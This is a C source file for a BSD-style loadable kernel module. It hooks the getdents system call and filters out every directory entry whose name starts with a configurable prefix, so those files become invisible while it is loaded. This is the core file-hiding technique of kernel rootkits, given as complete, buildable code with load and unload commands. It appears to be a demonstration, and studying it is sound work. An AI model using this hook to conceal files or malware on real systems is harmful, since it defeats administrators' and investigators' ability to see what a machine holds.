/*
 * hide: the classic LKM trick, a getdents(2) filter. The module replaces sysent[SYS_getdents]
 * and keeps the entry it replaced: its getdents calls the old one, then takes out of the
 * records every name that begins with HIDE_PREFIX ("secret" by default) before the process
 * sees them. Every client that lists a directory (lkmctl ls, a host mount) stops seeing those
 * names while the module is loaded; modunload puts the old entry back.
 *
 *	modload -e hide_lkmentry hide.o
 *	lkmctl ls /kern		(no "secret..." names)
 *	modunload -n hide
 */
#include <sys/param.h>
#include <sys/systm.h>
#include <sys/proc.h>
#include <sys/syscall.h>
#include <sys/syscallargs.h>
#include <sys/malloc.h>
#include <sys/dirent.h>
#include <sys/lkm.h>

#ifndef HIDE_PREFIX
#define HIDE_PREFIX "secret"
#endif

/* The entry this module replaced, saved by the load hook (which runs before the kernel
 * installs the new one). */
static struct sysent old_getdents;
static u_long hidden;

static int
hide_getdents(struct proc *p, void *v, register_t *retval)
{
	struct sys_getdents_args *uap = v;
	size_t prefix = strlen(HIDE_PREFIX);
	char *buf;
	int error, len, in, out;

	if ((error = old_getdents.sy_call(p, v, retval)) != 0 || *retval <= 0)
		return (error);
	len = *retval;
	buf = malloc(len, M_TEMP, M_WAITOK);
	if ((error = copyin(SCARG(uap, buf), buf, len)) != 0) {
		free(buf, M_TEMP);
		return (error);
	}
	/* Keep the records whose names do not begin with the prefix, packed. */
	for (in = out = 0; in < len;) {
		struct dirent *d = (struct dirent *)(buf + in);
		int reclen = d->d_reclen;

		if (reclen <= 0 || in + reclen > len)
			break;
		if (d->d_namlen >= prefix && memcmp(d->d_name, HIDE_PREFIX, prefix) == 0)
			hidden++;
		else {
			if (out != in)
				memmove(buf + out, buf + in, reclen);
			out += reclen;
		}
		in += reclen;
	}
	if (out != len)
		error = copyout(buf, SCARG(uap, buf), out);
	free(buf, M_TEMP);
	if (error == 0)
		*retval = out;
	/* Every record of this batch hidden: read the next one (0 would say "the end"). */
	if (error == 0 && out == 0 && len > 0)
		return (hide_getdents(p, v, retval));
	return (error);
}

static struct sysent hide_ent = { 3, sizeof(struct sys_getdents_args), 0, hide_getdents };

MOD_SYSCALL("hide", SYS_getdents, &hide_ent)

static int
hide_load(struct lkm_table *lkmtp, int cmd)
{
	old_getdents = sysent[SYS_getdents];
	return (0);
}

static int
hide_stat(struct lkm_table *lkmtp, int cmd)
{
	printf("hide: %lu names hidden\n", hidden);
	return (0);
}

int
hide_lkmentry(struct lkm_table *lkmtp, int cmd, int ver)
{
	DISPATCH(lkmtp, cmd, ver, hide_load, lkm_nofunc, hide_stat)
}
